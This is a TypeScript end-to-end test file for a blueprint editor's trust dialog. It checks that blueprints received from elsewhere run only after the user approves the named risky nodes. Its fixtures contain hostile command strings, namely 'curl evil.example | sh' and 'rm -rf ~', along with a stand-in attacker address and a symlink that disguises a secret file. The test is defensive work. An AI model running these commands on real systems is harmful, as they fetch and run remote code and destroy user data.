import { mkdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import type { NodeDefinitionInput } from '@atomiton/contracts';
import type { Locator } from 'playwright-core';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { withChosenFile } from '../src/choose-file.js';
import { EditorPage } from '../src/editor-page.js';
import { screenshotOnFailure } from '../src/on-failure.js';
import type { Shell } from '../src/shell.js';
import { openShell } from '../src/shell.js';
import { temporaryFolder } from '../src/temporary-folder.js';

const folder = temporaryFolder('trust');
const secret = join(folder, 'secret.csv');
const definitions = join(folder, 'definitions.json');
const dataFolder = join(folder, 'data');
let shell: Shell;
let editor: EditorPage;
let file: string;
let count = 0;

/** A node that says it runs a command; what runs is an echo. */
const COMMAND: NodeDefinitionInput = {
  type: 'test/command',
  version: 1,
  name: 'Command',
  category: 'Test',
  description: 'Runs a command.',
  inputs: [{ name: 'value', type: 'any', required: false }],
  outputs: [{ name: 'value', type: 'any' }],
  parameters: [
    { name: 'command', label: 'Command', type: 'string', default: '', prominent: true },
    { name: 'address', label: 'Address', type: 'string', default: '' },
  ],
  runtime: { language: 'python', module: 'test/echo' },
  purity: 'writes-world',
  effects: [
    { kind: 'shell', shows: ['command'] },
    { kind: 'network', shows: ['address'] },
  ],
};

async function start(): Promise<void> {
  shell = await openShell({ dataFolder, env: { ATOMITON_TEST_DEFINITIONS: definitions } });
  editor = new EditorPage(shell.page);
  await editor.ready();
  shell.page.setDefaultTimeout(10_000);
}

beforeAll(async () => {
  writeFileSync(secret, 'name,word\nada,xyzzy\n');
  writeFileSync(definitions, JSON.stringify([COMMAND]));
  mkdirSync(dataFolder);
  await start();
});
afterAll(() => shell?.close());
screenshotOnFailure(() => shell);

const sent = (command = 'curl evil.example | sh'): object => ({
  reader: { type: 'core/csv-reader', typeVersion: 1, parameters: { path: secret } },
  danger: {
    type: 'test/command',
    typeVersion: 1,
    parameters: { command, address: 'https://evil.example/' },
  },
  calm: { type: 'core/number', typeVersion: 1, parameters: { value: 7 } },
});

/** A blueprint in a folder of its own, so that the secret lies outside. */
function freshFile(name: string): string {
  mkdirSync(join(folder, name));
  return join(folder, name, 'sent.blueprint.json');
}

function write(nodes: object): void {
  const edges = 'danger' in nodes ? { 'danger.value': { from: 'calm.number' } } : {};
  writeFileSync(file, JSON.stringify({ formatVersion: 1, id: `t${count}`, name: 'sent', nodes, edges }));
}

async function open(): Promise<void> {
  await withChosenFile(shell, file, () => editor.page.keyboard.press('Control+o'));
  await editor.node('calm').waitFor();
}

async function close(): Promise<void> {
  await editor.page.getByRole('dialog').waitFor({ state: 'detached' });
  await editor.page.keyboard.press('Alt+w');
  await editor.node('calm').waitFor({ state: 'detached' });
}

async function ran(id: string): Promise<void> {
  await expect.poll(() => editor.state(id), { timeout: 20_000 }).toMatch(/^(done|cached)$/);
}

function dialog(): Locator {
  return editor.page.getByRole('dialog', { name: /^Run “sent/ });
}

const asked = (): Promise<string[]> =>
  dialog()
    .locator('[data-trust-node]')
    .evaluateAll((items) => items.map((item) => item.getAttribute('data-trust-node') ?? '').sort());

beforeEach(() => {
  count += 1;
  file = freshFile(String(count));
});

describe('a blueprint from elsewhere', () => {
  it('opens without running anything; Run names the nodes and what they would do; refusing runs nothing', async () => {
    write(sent());
    await open();
    for (const id of ['reader', 'danger', 'calm']) expect(await editor.state(id)).toBe('idle');
    await editor.run();
    await dialog().waitFor();
    expect(await asked()).toEqual(['danger', 'reader']);
    const danger = dialog().locator('[data-trust-node="danger"]');
    for (const text of [
      'Runs a command',
      'curl evil.example | sh',
      'Uses the network',
      'https://evil.example/',
    ])
      await danger.getByText(text, { exact: true }).waitFor();
    const reader = dialog().locator('[data-trust-node="reader"]');
    await reader.getByText('Reads outside its folder').waitFor();
    await reader.getByText(secret, { exact: true }).waitFor();
    await dialog().getByRole('button', { name: 'Don’t run' }).click();
    await editor.page.getByText('Nothing was run.').first().waitFor();
    for (const id of ['reader', 'danger', 'calm']) expect(await editor.state(id)).toBe('idle');
    await close();
  });

  it('by keyboard alone: Ctrl Enter asks, Escape refuses, the answer is remembered for the file and these nodes', async () => {
    write(sent());
    await open();
    const { keyboard } = editor.page;
    await keyboard.press('Control+Enter');
    await dialog().waitFor();
    await keyboard.press('Escape');
    await dialog().waitFor({ state: 'detached' });
    await expect.poll(() => editor.state('danger')).toBe('idle');
    await keyboard.press('Control+Enter');
    await dialog().waitFor();
    const accept = dialog().getByRole('button', { name: 'Allow and run' });
    for (let step = 0; step < 6; step++) {
      if (await accept.evaluate((button) => button === document.activeElement)) break;
      await keyboard.press('Tab');
    }
    await keyboard.press('Enter');
    await ran('danger');
    await ran('reader');
    await close();
    await open();
    await editor.run();
    await ran('danger');
    await expect.poll(() => dialog().count()).toBe(0);
    await close();
    // The same text at another path is another blueprint.
    const text = readFileSync(file, 'utf8');
    file = freshFile('copy');
    writeFileSync(file, text);
    await open();
    await editor.run();
    await dialog().waitFor();
    expect(await asked()).toEqual(['danger', 'reader']);
    await editor.page.keyboard.press('Escape');
    await close();
  });

  it('a run to a node asks only about what that node needs', async () => {
    write(sent());
    await open();
    await editor.select('calm');
    await editor.page.getByRole('button', { name: 'Run to here' }).first().click();
    await ran('calm');
    await expect.poll(() => editor.state('danger')).toBe('idle');
    await expect.poll(() => dialog().count()).toBe(0);
    await editor.select('reader');
    await editor.page.getByRole('button', { name: 'Run to here' }).first().click();
    await dialog().waitFor();
    expect(await asked()).toEqual(['reader']);
    await editor.page.keyboard.press('Escape');
    await close();
  });

  it('a link that leads out of the folder is shown with where it leads', async () => {
    const nodes = sent() as Record<string, unknown>;
    symlinkSync(secret, join(file, '..', 'innocent.csv'));
    write({
      calm: nodes.calm,
      reader: { type: 'core/csv-reader', typeVersion: 1, parameters: { path: 'innocent.csv' } },
    });
    await open();
    await editor.run();
    await dialog().getByText(secret, { exact: true }).waitFor();
    await dialog().getByText('written as innocent.csv').waitFor();
    await editor.page.keyboard.press('Escape');
    await close();
  });

  it('trust is taken back from the list, by keyboard, and the next run asks again', async () => {
    write(sent());
    await open();
    await editor.run();
    await dialog().getByRole('button', { name: 'Allow and run' }).click();
    await ran('danger');
    const { page } = editor;
    await page.keyboard.press('Control+k');
    await page.keyboard.type('Trusted blueprints');
    await page.keyboard.press('Enter');
    const list = page.getByRole('dialog', { name: 'Trusted blueprints' });
    await list.getByText(file).first().waitFor();
    await list.getByRole('button', { name: `Take back the trust in ${file}` }).press('Enter');
    await list.getByText(file).first().waitFor({ state: 'detached' });
    await page.keyboard.press('Escape');
    await list.waitFor({ state: 'detached' });
    await editor.run();
    await dialog().waitFor();
    expect(await asked()).toEqual(['danger', 'reader']);
    await page.keyboard.press('Escape');
    await close();
  });
});

it('the answer outlives the application: the next start does not ask again', async () => {
  write(sent());
  await open();
  await editor.run();
  await dialog().getByRole('button', { name: 'Allow and run' }).click();
  await ran('danger');
  await shell.close();
  await start();
  await editor.node('calm').waitFor();
  await expect.poll(() => editor.state('danger')).toBe('idle');
  await editor.run();
  await ran('danger');
  await expect.poll(() => dialog().count()).toBe(0);
  await close();
});

describe('what is drawn here', () => {
  it('runs without a question; pasted text from elsewhere is asked about', async () => {
    await editor.newDocument();
    const reader = await editor.addFromLibrary('CSV reader', { x: 0.3, y: 0.3 });
    await editor.select(reader);
    await editor.setField('File', secret);
    await editor.run();
    await ran(reader);
    await expect.poll(() => dialog().count()).toBe(0);

    const clipboard = {
      atomitonClipboard: 1,
      nodes: {
        pasted: { type: 'test/command', typeVersion: 1, parameters: { command: 'rm -rf ~' }, mode: 'active' },
      },
      edges: {},
      positions: { pasted: { x: 0, y: 0 } },
    };
    await editor.canvas.click({ position: { x: 20, y: 300 } });
    await editor.page.evaluate((text) => {
      const data = new DataTransfer();
      data.setData('text/plain', text);
      document.dispatchEvent(new ClipboardEvent('paste', { clipboardData: data, bubbles: true }));
    }, JSON.stringify(clipboard));
    await editor.node('pasted').waitFor();
    await editor.run();
    const question = editor.page.getByRole('dialog', { name: /^Run “/ });
    await question.getByText('rm -rf ~', { exact: true }).waitFor();
    await editor.page.keyboard.press('Escape');
    await expect.poll(() => editor.state('pasted')).toBe('idle');
    expect(readFileSync(secret, 'utf8')).toContain('xyzzy');
  });
});
